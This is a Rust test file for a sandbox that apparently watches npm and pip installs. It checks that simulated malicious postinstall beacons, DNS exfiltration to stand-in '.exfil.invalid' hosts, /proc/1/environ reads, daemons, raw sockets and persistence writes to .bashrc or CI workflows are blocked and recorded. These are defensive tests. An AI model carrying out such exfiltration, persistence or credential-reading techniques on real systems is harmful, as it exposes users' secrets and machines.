        "no denied dns event for *.exfil.invalid{r}"
    );
    // ...and pinned on the package and lifecycle stage that did it.
    assert!(
        run.any(|e| matches!(field(e, "event"), "dns" | "exec")
            && field(e, "package") == "secure-data-sanitizer@3.1.5"
            && field(e, "stage") == "postinstall"),
        "no dns/exec event attributed to secure-data-sanitizer@3.1.5 postinstall{r}"
    );

    // npm went through the proxy to the allowed registry, and asked it for nothing else.
    assert!(
        run.any(|e| field(e, "event") == "proxy"
            && field(e, "target") == allow
            && field(e, "verdict") == "allow"),
        "no allowed proxy event for {allow}{r}"
    );
    assert_only_registry_paths(&registry, &fx, &r);

    // pad-kit's direct connection to the host's loopback ran, failed, and was recorded.
    let beacon = std::fs::read_to_string(
        world
            .project()
            .join("node_modules/pad-kit/beacon-result.txt"),
    )
    .unwrap_or_else(|e| panic!("pad-kit's postinstall did not run ({e}){r}"));
    assert_ne!(beacon.trim(), "connected", "the beacon got out{r}");
    let target = format!("127.0.0.1:{}", catcher.port);
    assert!(
        run.any(|e| field(e, "event") == "connect"
            && field(e, "target") == target
            && field(e, "package") == "pad-kit@1.0.0"),
        "no connect event {target} attributed to pad-kit@1.0.0{r}"
    );
    settle();
    assert!(
        catcher.hits().is_empty(),
        "the exfil catcher was reached: {:?}{r}",
        catcher.hits()
    );
    // The host environment never reached the sandbox.
    assert!(
        !run.events_raw.contains(&secret) && !run.stdout.contains(&secret),
        "TURNCOAT_TEST_SECRET leaked into the sandbox{r}"
    );
}

/// The CI use: under `--block` the same install still completes (the payload swallows its own
/// failure), and the run exits 1 because the exfiltration was stopped.
#[test]
fn npm_ci_under_block_still_installs_and_exits_1() {
    if !have_tools("npm_ci_under_block", &["npm", "node"]) {
        return;
    }
    let (world, registry, catcher, fx) = npm_world(true);
    let allow = format!("127.0.0.1:{}", registry.port);
    let run = world.watch(
        &["--block", "--allow-host", &allow],
        &["npm", "ci"],
        &[],
        Duration::from_secs(300),
    );
    let r = run.report();
    assert_eq!(run.code(), Some(1), "exit status{r}");
    assert_installed(&world.project(), &fx, &r);
    assert!(
        run.any(|e| field(e, "event") == "dns"
            && field(e, "verdict") == "deny"
            && field(e, "package") == "secure-data-sanitizer@3.1.5"
            && field(e, "target")
                .to_ascii_lowercase()
                .ends_with(".exfil.invalid")),
        "no denied, attributed dns event for *.exfil.invalid{r}"
    );
    assert_only_registry_paths(&registry, &fx, &r);
    settle();
    assert!(
        catcher.hits().is_empty(),
        "the exfil catcher was reached: {:?}{r}",
        catcher.hits()
    );
}

/// `--block` must not stop an ordinary install: the benign tree (a lifecycle script included)
/// installs, nothing is denied, and the exit status is npm's own.
#[test]
fn a_benign_npm_ci_under_block_is_not_stopped() {
    if !have_tools("a_benign_npm_ci_under_block", &["npm", "node"]) {
        return;
    }
    let (world, registry, _catcher, fx) = npm_world(false);
    let allow = format!("127.0.0.1:{}", registry.port);
    let run = world.watch(
        &["--block", "--allow-host", &allow],
        &["npm", "ci"],
        &[],
        Duration::from_secs(300),
    );
    let r = run.report();
    let denied: Vec<String> = run
        .matching(|e| field(e, "verdict") == "deny")
        .iter()
        .map(|e| e.to_string())
        .collect();
    assert!(
        denied.is_empty(),
        "a benign install had events denied:\n{}{r}",
        denied.join("\n")
    );
    assert_eq!(run.code(), Some(0), "exit status{r}");
    assert_installed(&world.project(), &fx, &r);
    assert!(
        world
            .project()
            .join("node_modules/pad-kit/built.txt")
            .is_file(),
        "pad-kit's postinstall did not run{r}"
    );
    assert_only_registry_paths(&registry, &fx, &r);
}

// ---------------------------------------------------------------------------------------
// 2. Evasion suite (all under --block)

const PROBE_TIMEOUT: Duration = Duration::from_secs(60);

/// The probe's output says the operation failed (`result=fail`, or every `ok` is absent).
fn failed(stdout: &str, what: &str) -> bool {
    stdout
        .lines()
        .find(|l| l.contains(what))
        .is_some_and(|l| !l.contains("result=ok") && !l.contains("=[ok"))
}

#[test]
fn block_direct_tcp_connect_to_the_hosts_loopback() {
    let world = World::new();
    let Some(probe) = compile(&world, "tcp_connect", false) else {
        return;
    };
    let catcher = TcpCatcher::start();
    let port = catcher.port.to_string();
    let out = control(&world, &probe, &["127.0.0.1", &port]);
    assert!(out.contains("result=ok"), "control: {out}");
    assert!(!wait_for_hits(|| catcher.hits()).is_empty(), "control");
    catcher.hits.lock().unwrap().clear();

    let run = world.watch(
        &["--block"],
        &[path_str(&probe), "127.0.0.1", &port],
        &[],
        PROBE_TIMEOUT,
    );
    let r = run.report();
    let target = format!("127.0.0.1:{port}");
    let ev = run.matching(|e| field(e, "event") == "connect" && field(e, "target") == target);
    assert!(!ev.is_empty(), "no connect event for {target}{r}");
    assert!(
        failed(&run.stdout, "tcp_connect") || ev.iter().any(|e| field(e, "verdict") == "deny"),
        "the connect neither failed nor was denied{r}"
    );
    run.assert_exit(true, 0);
    settle();
    assert!(
        catcher.hits().is_empty(),
        "catcher hit: {:?}{r}",
        catcher.hits()
    );
}

#[test]
fn block_dns_sent_to_a_literal_resolver_over_udp_and_tcp() {
    let world = World::new();
    let Some(probe) = compile(&world, "dns_send", false) else {
        return;
    };
    let (udp, tcp) = dns_catchers();
    let port = udp.port.to_string();
    let name = "probe.exfil.invalid";
    let out = control(&world, &probe, &[&port, name]);
    assert!(out.contains("dns_send"), "control: {out}");
    assert!(!wait_for_hits(|| udp.hits()).is_empty(), "control udp");
    assert!(!wait_for_hits(|| tcp.hits()).is_empty(), "control tcp");
    udp.hits.lock().unwrap().clear();
    tcp.hits.lock().unwrap().clear();

    let run = world.watch(
        &["--block"],
        &[path_str(&probe), &port, name],
        &[],
        PROBE_TIMEOUT,
    );
    let r = run.report();
    let target = format!("127.0.0.1:{port}");
    let is_name = |e: &Value| {
        field(e, "event") == "dns"
            && field(e, "source") == "seccomp"
            && field(e, "target").trim_end_matches('.') == name
    };
    // UDP: the datagram (send) or the question in it (dns from seccomp).
    let udp_ev = run
        .matching(|e| (field(e, "event") == "send" && field(e, "target") == target) || is_name(e));
    assert!(
        !udp_ev.is_empty(),
        "UDP query to {target} not recorded (send or seccomp dns {name}){r}"
    );
    // TCP: the connect.
    let tcp_ev = run.matching(|e| field(e, "event") == "connect" && field(e, "target") == target);
    assert!(
        !tcp_ev.is_empty(),
        "TCP connect to {target} not recorded{r}"
    );
    let udp_line_failed = run
        .stdout
        .split("udp=[")
        .nth(1)
        .is_some_and(|s| s.starts_with("fail"));
    let tcp_line_failed = run
        .stdout
        .split("tcp=[")
        .nth(1)
        .is_some_and(|s| s.starts_with("fail"));
    assert!(
        udp_line_failed || udp_ev.iter().any(|e| field(e, "verdict") == "deny"),
        "UDP query neither failed nor denied{r}"
    );
    assert!(
        tcp_line_failed || tcp_ev.iter().any(|e| field(e, "verdict") == "deny"),
        "TCP query neither failed nor denied{r}"
    );
    run.assert_exit(true, 0);
    settle();
    assert!(
        udp.hits().is_empty() && tcp.hits().is_empty(),
        "catchers hit: {:?} {:?}{r}",
        udp.hits(),
        tcp.hits()
    );
}

#[test]
fn refuse_io_uring() {
    let world = World::new();
    let Some(probe) = compile(&world, "io_uring_connect", false) else {
        return;
    };
    let catcher = TcpCatcher::start();
    let port = catcher.port.to_string();
    // Control: outside the sandbox io_uring connects, and seccomp would never see it.
    let out = control(&world, &probe, &[&port]);
    assert!(out.contains("result=ok"), "control: {out}");
    assert!(!wait_for_hits(|| catcher.hits()).is_empty(), "control");
    catcher.hits.lock().unwrap().clear();

    let run = world.watch(&["--block"], &[path_str(&probe), &port], &[], PROBE_TIMEOUT);
    let r = run.report();
    assert!(
        run.any(|e| field(e, "event") == "refused" && field(e, "target") == "io_uring_setup"),
        "no refused io_uring_setup event{r}"
    );
    assert!(
        run.stdout.contains("result=fail io_uring_setup"),
        "io_uring_setup was not refused{r}"
    );
    run.assert_exit(true, 0);
    settle();
    assert!(
        catcher.hits().is_empty(),
        "catcher hit: {:?}{r}",
        catcher.hits()
    );
}

#[test]
fn refuse_raw_sockets() {
    let world = World::new();
    let Some(probe) = compile(&world, "raw_socket", false) else {
        return;
    };
    let run = world.watch(&["--block"], &[path_str(&probe)], &[], PROBE_TIMEOUT);
    let r = run.report();
    assert!(
        run.any(|e| field(e, "event") == "refused" && field(e, "target") == "socket(raw)"),
        "no refused socket(raw) event{r}"
    );
    assert!(
        failed(&run.stdout, "raw_socket"),
        "raw socket was opened{r}"
    );
    run.assert_exit(true, 0);
}

#[test]
fn a_static_binary_is_recorded_like_a_dynamic_one() {
    let world = World::new();
    let Some(probe) = compile(&world, "static_resolve", true) else {
        return;
    };
    let catcher = TcpCatcher::start();
    let port = catcher.port.to_string();
    let out = control(&world, &probe, &[&port, "-"]);
    assert!(out.contains("=[ok"), "control: {out}");
    assert!(!wait_for_hits(|| catcher.hits()).is_empty(), "control");
    catcher.hits.lock().unwrap().clear();

    let name = "static.exfil.invalid";
    let run = world.watch(
        &["--block"],
        &[path_str(&probe), &port, name],
        &[],
        PROBE_TIMEOUT,
    );
    let r = run.report();
    let target = format!("127.0.0.1:{port}");
    assert!(
        run.any(|e| field(e, "event") == "connect" && field(e, "target") == target),
        "no connect event for {target}{r}"
    );
    assert!(
        run.stdout.contains(&format!("connect {target}=[fail")),
        "the static binary's connect succeeded{r}"
    );
    assert!(
        run.any(|e| field(e, "event") == "dns"
            && field(e, "verdict") == "deny"
            && field(e, "target").trim_end_matches('.') == name),
        "no denied dns event for {name}{r}"
    );
    assert!(
        run.any(|e| field(e, "event") == "exec" && field(e, "target").ends_with("/static_resolve")),
        "no exec event for the static binary{r}"
    );
    run.assert_exit(true, 0);
    settle();
    assert!(
        catcher.hits().is_empty(),
        "catcher hit: {:?}{r}",
        catcher.hits()
    );
}

#[test]
fn the_nscd_socket_is_masked() {
    let world = World::new();
    let Some(probe) = compile(&world, "unix_connect", false) else {
        return;
    };
    let path = "/var/run/nscd/socket";
    let run = world.watch(&["--block"], &[path_str(&probe), path], &[], PROBE_TIMEOUT);
    let r = run.report();
    assert!(
        failed(&run.stdout, "unix_connect"),
        "connect to {path} succeeded{r}"
    );
    assert!(
        !run.stdout.contains("path=socket"),
        "{path} is a socket inside the sandbox{r}"
    );
    assert!(
        run.any(|e| field(e, "event") == "connect"
            && matches!(
                field(e, "target"),
                "unix:/var/run/nscd/socket" | "unix:/run/nscd/socket"
            )),
        "no connect event unix:{path}{r}"
    );
    run.assert_exit(true, 0);
}

#[test]
fn proc_1_environ_yields_nothing_from_the_host() {
    let world = World::new();
    let Some(probe) = compile(&world, "proc_environ", false) else {
        return;
    };
    let secret = unique("turncoat-test-secret");
    let run = world.watch(
        &["--block"],
        &[path_str(&probe)],
        &[("TURNCOAT_TEST_SECRET", &secret)],
        PROBE_TIMEOUT,
    );
    let r = run.report();
    assert!(
        run.stdout.contains("proc_environ"),
        "the probe did not run{r}"
    );
    assert!(
        run.any(
            |e| field(e, "event") == "sensitive-read" && field(e, "target") == "/proc/1/environ"
        ),
        "no sensitive-read event for /proc/1/environ{r}"
    );
    for (what, text) in [
        ("probe output", &run.stdout),
        ("stderr", &run.stderr),
        ("events", &run.events_raw),
    ] {
        assert!(
            !text.contains(&secret),
            "the watch process's TURNCOAT_TEST_SECRET appears in the {what}{r}"
        );
    }
    run.assert_exit(true, 0);
}

/// Processes (other than this one) whose command line contains `marker`.
fn processes_with(marker: &str) -> Vec<(u32, String)> {
    let me = std::process::id();
    let mut out = Vec::new();
    for entry in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
        let Some(pid) = entry
            .file_name()
            .to_str()
            .and_then(|s| s.parse::<u32>().ok())
        else {
            continue;
        };
        if pid == me {
            continue;
        }
        let Ok(cmdline) = std::fs::read(entry.path().join("cmdline")) else {
            continue;
        };
        let cmdline = String::from_utf8_lossy(&cmdline).replace('\0', " ");
        if cmdline.contains(marker) {
            out.push((pid, cmdline));
        }
    }
    out
}

#[test]
fn a_daemon_left_behind_is_killed_when_the_command_exits() {
    let world = World::new();
    let Some(probe) = compile(&world, "daemon", false) else {
        return;
    };
    let catcher = TcpCatcher::start();
    let port = catcher.port.to_string();
    let marker = unique("turncoat-watch-daemon");
    let run = world.watch(
        &["--block"],
        &[path_str(&probe), &port, &marker],
        &[],
        PROBE_TIMEOUT,
    );
    let r = run.report();
    settle();
    let left = processes_with(&marker);
    // Clean up before failing: these are this test's own probe processes.
    for (pid, _) in &left {
        let _ = Command::new("kill").arg("-9").arg(pid.to_string()).status();
    }
    assert!(
        run.stdout.contains("daemon result=ok"),
        "the probe did not daemonize{r}"
    );
    assert!(
        left.is_empty(),
        "processes still running after watch exited: {left:?}{r}"
    );
    assert!(
        run.any(|e| field(e, "event") == "killed" && field(e, "target").contains("daemon")),
        "no killed event for the daemon{r}"
    );
    run.assert_exit(true, 0);
    assert!(
        catcher.hits().is_empty(),
        "catcher hit: {:?}{r}",
        catcher.hits()
    );
}

#[test]
fn persistence_writes_are_denied() {
    let world = World::new();
    let Some(probe) = compile(&world, "persist_write", false) else {
        return;
    };
    let bashrc = world.home().join(".bashrc");
    let original = "# the user's own .bashrc\n";
    std::fs::write(&bashrc, original).expect("write .bashrc");
    let workflow = world.project().join(".github/workflows/x.yml");
    let run = world.watch(
        &["--block"],
        &[path_str(&probe), path_str(&bashrc), path_str(&workflow)],
        &[],
        PROBE_TIMEOUT,
    );
    let r = run.report();
    for path in [&bashrc, &workflow] {
        let p = path_str(path);
        assert!(
            run.any(|e| field(e, "event") == "persistence-write"
                && field(e, "target") == p
                && field(e, "verdict") == "deny"),
            "no denied persistence-write event for {p}{r}"
        );
    }
    assert_eq!(
        std::fs::read_to_string(&bashrc).ok().as_deref(),
        Some(original),
        "~/.bashrc was changed{r}"
    );
    assert!(!workflow.exists(), "{} was created{r}", workflow.display());
    run.assert_exit(true, 0);
}

// ---------------------------------------------------------------------------------------
// 3. Environment scrub

#[test]
fn the_environment_is_scrubbed() {
    if !have_tools("the_environment_is_scrubbed", &["env"]) {
        return;
    }
    let world = World::new();
    let secret = unique("turncoat-test-secret");
    let github = unique("ghp_test");
    let run = world.watch(
        &[],
        &["env"],
        &[
            ("NPM_TOKEN", "test-token-value"),
            ("GITHUB_TOKEN", &github),
            ("TURNCOAT_TEST_SECRET", &secret),
        ],
        PROBE_TIMEOUT,
    );
    let r = run.report();
    // The probe did print an environment.
    assert!(
        run.stdout.lines().any(|l| l.starts_with("PATH=")),
        "env printed no PATH{r}"
    );
    for needle in [
        "NPM_TOKEN",
        "test-token-value",
        "GITHUB_TOKEN",
        github.as_str(),
        "TURNCOAT_TEST_SECRET",
        secret.as_str(),
    ] {
        assert!(
            !run.stdout.contains(needle),
            "{needle} reached the command's environment{r}"
        );
    }
    run.assert_exit(false, 0);
}

// ---------------------------------------------------------------------------------------
// Python: the configured index is reachable, nothing else

/// A wheel of `demo-pkg` 1.0.0 (one module) and its sha256 in hex.
fn demo_wheel() -> (Vec<u8>, String) {
    use sha2::Digest as _;
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let info = "demo_pkg-1.0.0.dist-info";
    for (p, d) in [
        ("demo_pkg/__init__.py", "VALUE = 1\n".to_string()),
        (
            &format!("{info}/METADATA") as &str,
            "Metadata-Version: 2.1\nName: demo-pkg\nVersion: 1.0.0\n".to_string(),
        ),
        (
            &format!("{info}/WHEEL"),
            "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
                .to_string(),
        ),
        (&format!("{info}/RECORD"), String::new()),
    ] {
        w.start_file(p, zip::write::SimpleFileOptions::default())
            .expect("zip entry");
        w.write_all(d.as_bytes()).expect("zip write");
    }
    let bytes = w.finish().expect("zip").into_inner();
    let sha = sha2::Sha256::digest(&bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    (bytes, sha)
}

/// `pip install --index-url http://127.0.0.1:P/simple/` through `watch --block` reaches that
/// index (named on the command line, as literal as `--allow-host`) and installs; a second
/// local server named nowhere stays unreachable and the attempt is denied; the hosts the
/// project's own `uv.toml` and `.venv/pip.conf` name (files an earlier run could have planted;
/// `VIRTUAL_ENV` points at that `.venv`) are not allowed: their DNS queries are denied.
#[test]
fn pip_reaches_the_index_configured_outside_and_nothing_the_project_names() {
    if !have_tools("pip_index", &["sh"]) {
        return;
    }
    let Some(py) = turncoat_sandbox::detonate_python::find_python() else {
        assert!(
            std::env::var_os("TURNCOAT_TEST_REQUIRE_TOOLS").is_none(),
            "no python3 and TURNCOAT_TEST_REQUIRE_TOOLS is set"
        );
        eprintln!("SKIPPED pip_index: no python3 interpreter");
        return;
    };
    let world = World::new();
    let index = Registry::start();
    let other = Registry::start();
    let (whl, sha) = demo_wheel();
    let file = "demo_pkg-1.0.0-py3-none-any.whl";
    let page = format!(
        "<!DOCTYPE html><html><body><a href=\"/files/{file}#sha256={sha}\">{file}</a></body></html>"
    );
    {
        let mut routes = index.routes.lock().unwrap();
        routes.insert(
            "/simple/demo-pkg/".into(),
            ("text/html", Arc::new(page.into_bytes())),
        );
        routes.insert(
            format!("/files/{file}"),
            ("application/octet-stream", Arc::new(whl)),
        );
    }
    other
        .routes
        .lock()
        .unwrap()
        .insert("/x".into(), ("text/plain", Arc::new(b"reached".to_vec())));
    std::fs::write(
        world.project().join("uv.toml"),
        "extra-index-url = [\"https://planted-uv.exfil.invalid/simple/\"]\n",
    )
    .expect("uv.toml");
    let venv = world.project().join(".venv");
    std::fs::create_dir_all(&venv).expect("mkdir .venv");
    std::fs::write(
        venv.join("pip.conf"),
        "[global]\nextra-index-url = https://planted-pip.exfil.invalid/simple/\n",
    )
    .expect("pip.conf");

    let py = py.display().to_string();
    const RESOLVE: &str = "import socket\nfor h in ('planted-uv.exfil.invalid', 'planted-pip.exfil.invalid'):\n    try: socket.getaddrinfo(h, 443)\n    except OSError: pass";
    let script = format!(
        "{py} -m pip install --no-deps --no-cache-dir --disable-pip-version-check --target site \
         --index-url {}/simple/ demo-pkg && {py} -c \"{RESOLVE}\" && {py} -c \"import urllib.request as u; u.urlopen('{}/x', timeout=10)\"",
        index.base(),
        other.base()
    );
    let run = world.watch(
        &["--block"],
        &["sh", "-c", &script],
        &[("VIRTUAL_ENV", path_str(&venv))],
        Duration::from_secs(180),
    );
    let r = run.report();
    assert!(
        world.project().join("site/demo_pkg/__init__.py").is_file(),
        "pip did not install from the configured index{r}\nindex log: {:?}",
        index.requests()
    );
    let log = index.requests();
    assert!(
        log.iter().any(|l| l.starts_with("GET /simple/demo-pkg/"))
            && log
                .iter()
                .any(|l| l.starts_with(&format!("GET /files/{file}"))),
        "{log:?}{r}"
    );
    settle();
    assert!(
        other.requests().is_empty(),
        "the project-named host was reached: {:?}{r}",
        other.requests()
    );
    let other_port = format!(":{}", other.port);
    assert!(
        run.any(|e| field(e, "verdict") == "deny" && field(e, "target").contains(&other_port)),
        "no denied event for the other host{r}"
    );
    for planted in ["planted-uv.exfil.invalid", "planted-pip.exfil.invalid"] {
        let dns =
            run.matching(|e| field(e, "event") == "dns" && field(e, "target").starts_with(planted));
        assert!(!dns.is_empty(), "{planted} was not asked for{r}");
        assert!(
            dns.iter().all(|e| field(e, "verdict") == "deny"),
            "{planted}, named only by a project file, was allowed{r}"
        );
    }
    assert_eq!(run.code(), Some(1), "{r}");
}
